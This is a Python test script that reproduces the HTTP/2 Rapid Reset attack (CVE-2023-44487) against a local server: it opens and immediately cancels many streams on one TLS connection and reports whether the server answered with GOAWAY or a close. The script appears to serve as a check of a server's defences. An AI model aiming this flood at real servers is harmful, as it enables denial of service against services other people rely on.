#!/usr/bin/python3
"""HTTP/2 Rapid Reset (CVE-2023-44487) client for the tests: on one TLS
connection, N times HEADERS for PATH immediately followed by RST_STREAM.

usage: rapid_reset.py PORT PATH N [keep]
With "keep" the streams are left open (no RST_STREAM): N concurrent requests.
Prints one line: "sent=<pairs written> closed=<1 if the server closed the
connection or sent GOAWAY> ms=<elapsed> goaway=<1 if it sent GOAWAY>". Debian's python3-h2; run with /usr/bin/python3.
"""
import select
import ssl
import sys
import time

import h2.config
import h2.connection
import h2.errors
import h2.exceptions

sys.path.insert(0, __import__("os").path.dirname(__file__))
from h2frames import FrameScanner, connect_tls_h2  # noqa: E402


def main():
    port, path, n = int(sys.argv[1]), sys.argv[2], int(sys.argv[3])
    keep = len(sys.argv) > 4 and sys.argv[4] == "keep"
    sock = connect_tls_h2(port)
    if sock.selected_alpn_protocol() != "h2":
        print("no h2 negotiated")
        return 2
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    conn.initiate_connection()
    sock.sendall(conn.data_to_send())
    headers = [(":method", "GET"), (":path", path), (":scheme", "https"), (":authority", "localhost")]
    closed = False
    frames = FrameScanner()
    sent = 0
    t0 = time.monotonic()

    def drain():
        # Read what the server sent (answers, settings) so its writes never stall.
        nonlocal closed
        while not closed and select.select([sock], [], [], 0)[0]:
            try:
                data = sock.recv(65536)
            except (ssl.SSLWantReadError, BlockingIOError):
                return
            except OSError:
                closed = True
                return
            if not data:
                closed = True
                return
            frames.feed(data)
            if frames.goaway:
                closed = True  # no new stream may be opened on it

    for i in range(n):
        sid = conn.get_next_available_stream_id()
        try:
            conn.send_headers(sid, headers, end_stream=True)
            if not keep:
                conn.reset_stream(sid, error_code=h2.errors.ErrorCodes.CANCEL)
        except h2.exceptions.ProtocolError:
            closed = True  # the GOAWAY arrived with the last read
            break
        if i % 50 == 49 or i == n - 1:
            try:
                sock.sendall(conn.data_to_send())
            except OSError:
                closed = True
                break
            sent = i + 1
            drain()
            if closed:
                break
    # Did the server close it? Wait a little for EOF.
    deadline = time.monotonic() + 5
    while not closed and time.monotonic() < deadline:
        if select.select([sock], [], [], 0.2)[0]:
            try:
                data = sock.recv(65536)
            except (ssl.SSLWantReadError, BlockingIOError):
                continue
            except OSError:
                closed = True
                break
            if not data:
                closed = True
                break
            frames.feed(data)
            closed |= frames.goaway
    print("sent=%d closed=%d ms=%.0f goaway=%d" % (sent, int(closed), (time.monotonic() - t0) * 1000, int(frames.goaway)))
    return 0


if __name__ == "__main__":
    sys.exit(main())
